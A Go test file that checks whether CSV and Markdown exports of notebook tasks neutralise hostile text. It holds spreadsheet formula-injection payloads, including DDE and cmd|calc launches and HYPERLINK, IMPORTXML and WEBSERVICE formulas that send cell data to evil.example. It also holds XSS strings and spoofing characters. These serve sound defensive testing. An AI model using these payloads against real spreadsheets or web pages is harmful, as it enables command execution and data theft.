package report_test

import (
	"encoding/csv"
	"errors"
	"iter"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"tarsy.dev/tarsy/internal/calendar"
	"tarsy.dev/tarsy/internal/report"
	"tarsy.dev/tarsy/notebook"
)

// exported returns a sequence of one entity per title, with the title in every text field.
func exported(titles ...string) iter.Seq2[notebook.EntityExport, error] {
	return func(yield func(notebook.EntityExport, error) bool) {
		for _, title := range titles {
			due, _ := calendar.ParseDate("2026-11-30")
			e := notebook.EntityExport{Project: title, Epic: title}
			e.Entity = notebook.Entity{
				ID: "1", Type: notebook.EntityTask, Title: title, Content: title, Owner: title, DueOn: &due, Status: notebook.EntityInProgress, State: notebook.EntityAccepted,
				Confidence: new(0.5), CreatedBy: title, EditedBy: title, CreatedAt: at(0), UpdatedAt: at(1), Version: 2,
			}
			e.Tags = []string{title}

			if !yield(e, nil) {
				return
			}
		}
	}
}

func csvRows(t *testing.T, titles ...string) [][]string {
	t.Helper()

	var b strings.Builder

	require.NoError(t, report.EntitiesCSV(&b, exported(titles...)))

	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	require.NoError(t, err)

	return rows
}

func TestCSVHasOneRowPerEntity(t *testing.T) {
	t.Parallel()

	rows := csvRows(t, "Fix the \"login\", soon\nor later")
	require.Len(t, rows, 2)
	require.Equal(t, []string{
		"id", "type", "title", "content", "owner", "due_on", "status", "state", "project", "epic", "tags", "confidence", "created_by", "edited_by",
		"created_at", "updated_at", "note_id", "session_id", "version",
	}, rows[0])

	text := "Fix the \"login\", soon\nor later"
	require.Equal(t, []string{
		"1", "task", text, text, text, "2026-11-30", "in_progress", "accepted", text, text, text, "0.5", text, text, "2026-11-15T10:00:00Z",
		"2026-11-15T10:00:01Z", "", "", "2",
	}, rows[1])
}

// Payloads that are known to execute in spreadsheets, with possible prefixes.
func TestNoCSVCellBecomesFormula(t *testing.T) {
	t.Parallel()

	for _, payload := range []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1",
		"＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1+1", "﹦1", "−1", "\"=1+1", "\t", "\r",
		`=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!D2`, `@SUM(1+9)*cmd|' /C calc'!A0`, `=10+20+cmd|' /C calc'!A0`,
		`=HYPERLINK("http://evil.example?x="&A1,"click")`, `=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")`, `=WEBSERVICE("http://evil.example")`,
		`=rundll32|'URL.dll,OpenURL calc.exe'!A`, `=DDE("cmd";"/C calc";"1")`, `%0A=1+1`, "=\n1+1",
	} {
		for i, cell := range csvRows(t, payload)[1] {
			first := strings.TrimLeft(cell, " \n\u00a0\u3000\ufeff\u200b\u202e\"")
			require.False(t, first != "" && strings.ContainsAny(first[:1], "=+-@\t\r"), "cell %d of %q: %q", i, payload, cell)

			for _, wide := range []string{"＝", "＋", "－", "＠", "﹦", "−"} {
				require.False(t, strings.HasPrefix(first, wide), "cell %d of %q: %q", i, payload, cell)
			}
		}
	}

	// With semicolons or tabs as separators, no part becomes a formula either.
	for _, payload := range []string{"x;=1+1", "x; =1+1", "x;\"=1+1", "x\t=1+1", "x;@SUM(1)", "x;＝1", "x;-1+1"} {
		for _, part := range strings.FieldsFunc(csvRows(t, payload)[1][2], func(r rune) bool { return r == ';' || r == '\t' }) {
			require.NotRegexp(t, `^[\s"]*[=+\-@＝]`, part, payload)
		}
	}

	require.Equal(t, "'=1+1", csvRows(t, "=1+1")[1][2])

	for _, harmless := range []string{"a=b", "1-1", "mail ana@example.com", "x; y", "'quoted'", ""} {
		require.Equal(t, harmless, csvRows(t, harmless)[1][2])
	}
}

func TestMarkdownTableHoldsHostileTextAsText(t *testing.T) {
	t.Parallel()

	var b strings.Builder

	hostile := []string{
		"a | b", "a\n| x | y |", "a\r\n\r\n# Heading", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))",
		"![x](http://evil.example/x.png)", "<http://evil.example>", "http://evil.example/a_b", "HTTPS://evil.example", "www.evil.example", "WWW.evil.example",
		"ana@evil.example", "mailto:ana@evil.example", "xmpp:ana@evil.example", "[x]: http://evil.example", "`code` **bold** _it_ ~~no~~", "a\u2028| b |", "&lt;b&gt;", "\x1b[31mred",
		"\\| x", "\u202egnp.exe", "ftp://evil.example", "`|`", "--- | ---",
	}
	require.NoError(t, report.EntitiesMarkdown(&b, exported(hostile...)))

	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
	require.Len(t, lines, 4+len(hostile), "each entity is one line")

	for i, line := range lines[4:] {
		// Unescaped bars are those of the table.
		bars := strings.Count(strings.ReplaceAll(strings.ReplaceAll(line, `\\`, ""), `\|`, ""), "|")
		require.Equal(t, 10, bars, "%q: %s", hostile[i], line)
		require.NotContains(t, line, "<", hostile[i])
		require.NotRegexp(t, `(^|[^\\])[\[\]]`, strings.ReplaceAll(line, `\\`, ""), hostile[i])
		require.NotRegexp(t, `(?i)://|www\.|@|mailto:|xmpp:`, line, hostile[i])
		require.NotContains(t, line, "\u202e")
		require.NotContains(t, line, "\x1b")
	}

	require.Contains(t, lines[4], `| task | a \| b | in progress | a \| b | 2026-11-30 |`)
}

func TestEntityReportsStopAtError(t *testing.T) {
	t.Parallel()

	failure := errors.New("failed on purpose")
	broken := func(yield func(notebook.EntityExport, error) bool) { yield(notebook.EntityExport{}, failure) }

	var b strings.Builder

	require.ErrorIs(t, report.EntitiesCSV(&b, broken), failure)
	require.ErrorIs(t, report.EntitiesMarkdown(&b, broken), failure)
}
